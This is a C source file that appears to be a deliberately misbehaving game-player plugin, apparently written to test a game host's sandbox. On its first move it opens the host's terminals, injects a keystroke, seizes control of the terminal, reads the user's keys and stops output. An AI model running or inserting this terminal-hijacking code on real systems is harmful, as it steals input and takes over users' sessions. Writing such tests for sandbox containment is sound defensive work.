/* Looks for the terminal that the game is on, steals its keys, and takes it over (FAULTS 65). */
#include <fcntl.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <termios.h>
#include <unistd.h>

#include "attack.h"

static void take_over(int terminal) {
    struct termios modes;
    const struct winsize none = {1, 1, 0, 0};
    char keys[100];
    tell("reading modes", tcgetattr(terminal, &modes));
    memset(&modes, 0, sizeof modes);
    tell("writing modes", tcsetattr(terminal, TCSANOW, &modes));
    tell("modes above 32 bits", ioctl(terminal, TCSETS | 1UL << 32, &modes));
    tell("typing", ioctl(terminal, TIOCSTI, "q"));
    tell("size", ioctl(terminal, TIOCSWINSZ, &none));
    tell("foreground", ioctl(terminal, TIOCSPGRP, keys));
    tell("controlling", ioctl(terminal, TIOCSCTTY, 1));
    tell("keys", read(terminal, keys, sizeof keys));
    tell("stopping output", ioctl(terminal, TCXONC, TCOOFF));
}

static void attack(const char* name) {
    static const int ways[] = {O_RDWR, O_RDONLY, O_WRONLY, O_RDWR | O_NONBLOCK};
    for (size_t way = 0; way < sizeof ways / sizeof *ways; ++way) {
        const int terminal = open(name, ways[way] | O_NOCTTY);
        if (tell(name, terminal) >= 0) take_over(terminal);
    }
}

static int32_t choose(void* self, const p4_turn* turn, const p4_host* host, int32_t* move) {
    (void)self;
    witness = host;
    if (turn->move_count > 1) return play_first_legal(turn, move);
    signal(SIGTTOU, SIG_IGN);
    attack(how);
    attack("/dev/tty");
    attack("/dev/console");
    attack("/dev/ptmx");
    for (int number = 0; number < 4; ++number)
        if (isatty(number)) take_over(number);
    return play_first_legal(turn, move);
}

const p4_player* p4_player_v1(void) {
    static const p4_player player = {MISBEHAVING("terminal")};
    return &player;
}
